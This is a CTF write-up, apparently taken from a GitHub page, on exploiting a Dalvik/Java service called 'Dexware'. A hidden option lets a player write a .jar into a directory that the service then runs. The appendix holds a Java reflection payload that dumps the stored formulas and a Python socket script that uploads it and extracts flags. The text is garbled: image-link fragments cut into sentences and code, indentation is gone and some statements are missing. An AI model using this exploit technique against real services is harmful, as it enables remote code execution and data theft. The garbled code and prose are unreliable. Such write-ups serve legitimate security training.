Switch branches/tags
Nothing to show
Find file Copy path
Fetching contributors…
Cannot retrieve contributors at this time
182 lines (153 sloc) 6.96 KB
Dexware is a java program, namely a dex (Dalvik Executable-Format) compiled
java program.
The first thing was, that you have a dex file. This is an optimized java class
file. To decompile it, you have to find some tools on the internet (like
dex2jar). Then you have to decompile the given class file to java code (e.g.
with jad).
Next you can view the code with whatever editor you like (we took eclipse,
because of syntax highlighting and other fancy stuff). Next thing was to check
the program for strange things and we found one.
When displaying the menu you can choose a number. The decompiled code reveals a
hidden number, namely 42 (woooo). After checking and understanding the code, we
found out, that the secret 42 takes as arguments a filename with ending, a
number and a sequence of hex values.
After checking that everything is valid it puts the hex string into a file a
saves it under the filename. But because the flags won't be placed on the hard
disk, we didn't see any attack vector here.
But locking for more, we found the suspect option 'upgrade'. Because it doesn't
do anything at first sight we investigated the code and found something very
The upgrade method loops through all files in the /tmp/dexware directory (that
directory we can place files into), looks for '.jar' files and tries to execute
them. This was a big step! We found an attack vector.
Next step is to find out how to inject our code. When looking at the source, we
can see that it looks for a 'DexWareUpgrader' class with an method 'upgrade'
and two parameter, an object and a string. Solet's code something. We compiled
a simple java program with a sysout("Hello") and check how we have to compile
and arrange it, that this will be executed. This was a tough process.
The solution is to compile the java programm into a class file, use dx (you
need the android-sdk for it) to make a .dex file out of it, then zip it, rename
it to '8#something.jar' and put it into '/tmp/dexware'. The 8 is the a thread
id, but that's nothing we have to care about. After a lot of error messages we
finally got our success message "Hello". We were a little bit happy :)
Next step is to use a lot of reflection to get the formulas, which is our main
goal. To see how we accomplished it, look at the code in the appendix.
Remember what 42 does and with this knowledge in mind we can now write an
exploit (see appendix for code)
We use open('exploit.jar').read() to put the hexcode in our Next we use
'binascii' modul to convert theinput hex a hex-string and send the server the
needed information.
At first 42, then a filename with .jar at the end (this is our defense point),
then the length of the file and at last the hexcode. Then use 4 to execute the
exploit and get the needed information. We easily can split the input stream
via the '@' and ':' sign. Last is to filter out the right formula, that was
We wrote ourself a little proxy script that redirects the whole input stream
from one port to an other, but with a filter option. So the first was to change
the hardcoded port of dexware from 8085 to something else like 8086.
Opening a hex-editor and search for 1F95 reveals one location. We changed it to
1F96 and tried to execute it. No luck here, because of a bad checksum. Someresearch on the internet shows us a little program that calculates a new
checksum. Bit fiddly, but it does a good job.
Next step was to setup the filter. Because we know, what you have to put in a
'.jar' file, be grepped for '.jar' and closed that connecion.
This was an amusing challange, that hasn't anything to do with an ELF. It was
tricky and not that easy to solve. Even after you know the attack vector it was
a lot of work to access the needed information. All in all very good, thank you!
import java.lang.reflect.Field;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
public class DexWareUpgrader
public static final void upgrade(Object obj, String s) throws Throwable
Field fOuter = obj.getClass().getDeclaredField("this$0");
Object dexware = fOuter.get(obj);
Field fFormDB = dexware.getClass().getDeclaredField("formulasDB");
Object formDB = fFormDB.get(dexware);Field fHashmap = formDB.getClass().getDeclaredField("formulas");
ConcurrentHashMap map = (ConcurrentHashMap)fHashmap.get(formDB);
Field fFormId = dexware.getClass().getDeclaredClasses()[0].getDeclaredField("formulaId"); //[0] is the FormulaEntry class
Field fForm = dexware.getClass().getDeclaredClasses()[0].getDeclaredField("formula");
Field bufOut = obj.getClass().getDeclaredField("out");
BufferedWriter out = (BufferedWriter)bufOut.get(obj);
for(Object o : map.entrySet())
Map.Entry me = (Map.Entry)o;
String innerS = (String)me.getKey();
out.write(fFormId.get(map.get(innerS)) + ":" + fForm.get(map.get(innerS)) + "@");
import socket
import binascii
import time
code = open('exp.jar', 'rb').read()
codehex = binascii.hexlify(code)
codelen = len(codehex)
class Exploit():
def execute(self, ip, port, flag_id):
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((ip, port))
s.sendall(codehex + '\n')
data = ''
while True:
buf = s.recv(512)
except socket.error:data += buf
flag = None
lines =data.split('\n')
for line in lines:
if '@' not in line:
for el in line.split('@'):
my_id, my_flag = el.split(':')
my_id = my_id.strip()
my_flag = my_flag.strip().strip('@')
if my_id == flag_id:
flag = my_flag
except ValueError:
if flag is None:raise ValueError(data)self.flag = flag
defresult(self):
return{'FLAG' : self.flag }